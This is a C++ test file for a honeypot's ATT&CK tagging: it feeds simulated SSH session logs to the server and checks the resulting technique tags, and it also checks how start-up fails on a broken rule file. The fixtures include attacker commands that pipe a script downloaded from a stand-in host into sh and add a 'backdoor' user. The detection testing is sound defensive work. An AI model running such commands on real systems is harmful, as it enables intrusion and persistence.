@@ -1,0 +1,85 @@
+// ATT&CK tagging as `decnet serve` runs it: a shell session's commands, once the session ends,
+// become tags of the techniques they show (stored with their evidence, one per command and
+// technique, never twice); a rule pack with a broken rule stops start-up naming the variable,
+// the file and the line.
+#include <gtest/gtest.h>
+
+#include <cstdio>
+#include <fstream>
+
+#include "serve_support.h"
+
+namespace decnet::app {
+namespace {
+
+using namespace decnet::testing;
+
+std::string line(int second, const std::string& msgid, const std::string& sd) {
+  char ts[64];
+  std::snprintf(ts, sizeof ts, "2026-05-02T06:10:%02d.000000+00:00", second);
+  return std::string("<134>1 ") + ts + " decky-07 ssh - " + msgid + " [relay@55555 sid=\"t1\" " +
+         "src_ip=\"198.51.100.61\" " + sd + "]";
+}
+
+TEST(ServeTtp, ASessionsCommandsBecomeTagsOfTheirTechniques) {
+  ServeProcess serve;
+  ASSERT_TRUE(serve.wait_ready()) << serve.output();
+  std::string stream;
+  stream += octet_frame(line(0, "connect", ""));
+  stream += octet_frame(line(1, "command", "command=\"uname -a\""));
+  stream += octet_frame(line(2, "command", "command=\"wget http://x.example/x.sh -O- | sh\""));
+  stream += octet_frame(line(3, "command", "command=\"useradd -m -s /bin/bash backdoor\""));
+  stream += octet_frame(line(4, "command", "command=\"ls\""));
+  stream += octet_frame(line(5, "disconnect", ""));
+  TcpClient client(serve.tcp_port());
+  ASSERT_TRUE(client.send(stream));
+
+  // uname: T1082; the download piped into sh: T1105 and T1059.004; useradd: T1136.001.
+  const auto count = [&](const std::string& where) {
+    return sqlite_int(serve.db(), "SELECT COUNT(*) FROM ttp_tag WHERE " + where).value_or(-1);
+  };
+  ASSERT_TRUE(wait_until([&] { return count("1") == 4; })) << count("1") << serve.output();
+  EXPECT_EQ(count("technique_id = 'T1082' AND sub_technique_id IS NULL"), 1);
+  EXPECT_EQ(count("technique_id = 'T1105'"), 1);
+  EXPECT_EQ(count("technique_id = 'T1059' AND sub_technique_id = 'T1059.004'"), 1);
+  EXPECT_EQ(
+      count("technique_id = 'T1136' AND sub_technique_id = 'T1136.001' AND rule_id = 'R0024'"), 1);
+  // Anchored to the attacker and the session, with the command as evidence.
+  const auto attacker =
+      sqlite_value(serve.db(), "SELECT uuid FROM attackers WHERE ip = '198.51.100.61'");
+  const auto session =
+      sqlite_value(serve.db(), "SELECT uuid FROM sessions WHERE session_id = 't1'");
+  ASSERT_TRUE(attacker && session);
+  EXPECT_EQ(count("attacker_uuid = '" + *attacker + "' AND session_id = '" + *session + "'"), 4);
+  EXPECT_EQ(sqlite_value(serve.db(),
+                         "SELECT json_extract(evidence, '$.command_text') FROM ttp_tag "
+                         "WHERE technique_id = 'T1136'"),
+            "useradd -m -s /bin/bash backdoor");
+  EXPECT_EQ(sqlite_value(serve.db(), "SELECT source_id FROM ttp_tag WHERE technique_id = 'T1136'"),
+            *session + "#2");
+  EXPECT_EQ(sqlite_value(serve.db(), "SELECT mitre_url FROM ttp_tag WHERE technique_id = 'T1136'"),
+            "https://attack.mitre.org/techniques/T1136/001/");
+}
+
+TEST(ServeTtp, ABrokenRuleStopsStartUpNamingItsFileAndLine) {
+  TempDir dir;
+  std::filesystem::create_directories(dir / "rules");
+  std::ofstream(dir / "rules" / "R0100.yaml") << "rule_id: R0100\nrule_version: 1\nname: x\n"
+                                                 "applies_to: [command]\nmatch:\n"
+                                                 "  pattern: '(unclosed'\n"
+                                                 "emits: [{tactic: TA0002, technique_id: T1059, "
+                                                 "confidence: 0.5}]\n";
+  const auto r = run_command({decnet_binary(), "serve"},
+                             {{"DECNET_DATA_DIR", (dir / "var").string()},
+                              {"DECNET_CONFIG", (dir / "none.ini").string()},
+                              {"DECNET_API_PORT", std::to_string(free_port())},
+                              {"DECNET_SYSLOG_TCP_PORT", std::to_string(free_port())},
+                              {"DECNET_SYSLOG_UDP_PORT", std::to_string(free_port(true))},
+                              {"DECNET_TTP_RULES_DIR", (dir / "rules").string()}});
+  EXPECT_EQ(r.status, 2) << r.output;
+  EXPECT_NE(r.output.find("DECNET_TTP_RULES_DIR"), std::string::npos) << r.output;
+  EXPECT_NE(r.output.find("R0100.yaml:6"), std::string::npos) << r.output;
+}
+
+}  // namespace
+}  // namespace decnet::app
